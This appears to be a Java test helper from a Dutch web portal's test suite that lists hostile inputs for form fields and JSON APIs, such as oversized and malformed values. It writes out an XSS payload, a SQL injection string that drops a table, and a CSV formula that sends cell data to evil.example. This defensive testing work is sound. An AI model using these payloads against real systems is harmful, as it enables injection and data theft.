package nl.ingrado.portal.shared;

import java.util.ArrayList;
import java.util.List;

/**
 * The hostile inputs a visitor, a careless user or a script can send: each class has a name (for the
 * report) and a value, shaped to the field where the shape matters (digits for a number field, an
 * address for an email field), so the class tests length or content rather than only the shape.
 */
final class Hostile {

    static final int LONG = 10_000;
    static final int HUGE = 5 * 1024 * 1024;

    /** A class of text input; {@code mustRefuse} when no field of the portal can rightly accept it. */
    record Text(String name, boolean mustRefuse) {

        String value(HtmlForm.Field field) {
            return value(kind(field));
        }

        String value(String kind) {
            return switch (name) {
                case "empty" -> "";
                case "10,000 characters" -> sized(kind, LONG);
                case "5 MB" -> sized(kind, HUGE);
                case "unicode and emoji" -> "Zoë Ångström Ωμέγα 漢字 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 😀👩‍👩‍👧‍👦";
                case "right-to-left" -> "\u202Eمرحبا بالعالم שלום עולם\u202C";
                case "NUL" -> "voor\u0000na";
                case "control characters" -> "\u0001\u0007\b\u001B[31m\r\nregel\u007F\u0085\u2028";
                case "script and HTML" -> "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><b>vet";
                case "SQL" -> "' OR '1'='1'; DROP TABLE account; -- ";
                case "CSV formula" -> "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"klik\")";
                default -> throw new IllegalArgumentException(name);
            };
        }

        private static String sized(String kind, int length) {
            return switch (kind) {
                case "number" -> "9".repeat(length);
                case "email" -> "x".repeat(length - 11) + "@example.nl";
                default -> "Lorem ipsum ".repeat(length / 12 + 1).substring(0, length);
            };
        }
    }

    /** The classes tried on every field. */
    static final List<Text> PER_FIELD = List.of(new Text("empty", false),
            new Text("10,000 characters", false),
            new Text("unicode and emoji", false), new Text("right-to-left", false), new Text("NUL", false),
            new Text("control characters", false), new Text("script and HTML", false), new Text("SQL", false),
            new Text("CSV formula", false));

    /**
     * The classes tried on a field the user picks rather than types (select, checkbox, radio, hidden): a
     * browser sends one of the rendered values, a script anything; one class per way of being wrong is enough.
     */
    static final List<Text> PER_CHOICE = List.of(new Text("empty", false),
            new Text("10,000 characters", false),
            new Text("unicode and emoji", false), new Text("NUL", false), new Text("script and HTML", false),
            new Text("SQL", false));

    /** Tried once per form or API call (on its first text field): costly to send. */
    static final Text FIVE_MB = new Text("5 MB", true);

    /** How the field reads its value: "number", "email" or "text". */
    static String kind(HtmlForm.Field field) {
        var purpose = field.purpose();
        if ("number".equals(field.kind()) || purpose.contains("numeric") || purpose.contains("decimal")) {
            return "number";
        }
        return "email".equals(field.kind()) || field.name().toLowerCase().endsWith("email")
                ? "email"
                : "text";
    }

    /** JSON value classes of a property, by its schema type; an entry is {class name, JSON text}. */
    static List<String[]> json(String type, String valid) {
        return switch (type) {
            case "integer", "number" -> List.of(new String[]{"wrong type (string)", "\"abc\""},
                    new String[]{"wrong type (boolean)", "true"}, new String[]{"fraction", "17.9"},
                    new String[]{"negative number", "-1"},
                    new String[]{"huge number", "99999999999999999999999999999"},
                    new String[]{"huge exponent", "1e400"},
                    new String[]{"array for a value", "[" + valid + "]"},
                    new String[]{"object for a value", "{}"});
            case "object" -> List.of(new String[]{"array for an object", "[17]"},
                    new String[]{"wrong type (string)", "\"abc\""}, new String[]{"fraction in the object",
                            "{\"9\":17.9}"},
                    new String[]{"negative in the object", "{\"1\":-1}"},
                    new String[]{"huge in the object", "{\"1\":99999999999999999999999}"},
                    new String[]{"wrong type in the object", "{\"1\":\"abc\"}"});
            case "array" -> List.of(new String[]{"object for an array", "{}"},
                    new String[]{"wrong type (string)", "\"abc\""},
                    new String[]{"fractions in the array", "[17.9]"},
                    new String[]{"huge in the array", "[99999999999999999999999]"});
            case "boolean" -> List.of(new String[]{"wrong type (string)", "\"abc\""},
                    new String[]{"wrong type (number)", "2"}, new String[]{"array for a value", "[true]"});
            default -> {
                var classes = new ArrayList<String[]>();
                PER_FIELD.forEach(c -> classes.add(new String[]{c.name(), quote(c.value("text"))}));
                classes.add(new String[]{"wrong type (number)", "17"});
                classes.add(new String[]{"array for a value", "[" + valid + "]"});
                classes.add(new String[]{"object for a value", "{}"});
                yield classes;
            }
        };
    }

    /** Classes of the JSON string case that a well-typed API must refuse (4xx), whatever the field. */
    static boolean jsonMustRefuse(String className) {
        return className.startsWith("wrong type") || className.startsWith("array for")
                || className.startsWith("object for") || className.startsWith("fraction")
                || className.startsWith("huge") || className.startsWith("negative")
                || className.equals("unknown field") || className.equals("deep nesting")
                || className.equals("5 MB") || className.equals("malformed JSON")
                || className.equals("array for the body");
    }

    /** 100,000 levels of nested arrays. */
    static String deepNesting() {
        return "[".repeat(100_000) + "]".repeat(100_000);
    }

    static String quote(String text) {
        var json = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> json.append("\\\"");
                case '\\' -> json.append("\\\\");
                default -> json.append(c < 0x20 ? String.format("\\u%04x", (int) c) : String.valueOf(c));
            }
        }
        return json.append('"').toString();
    }

    private Hostile() {
    }
}
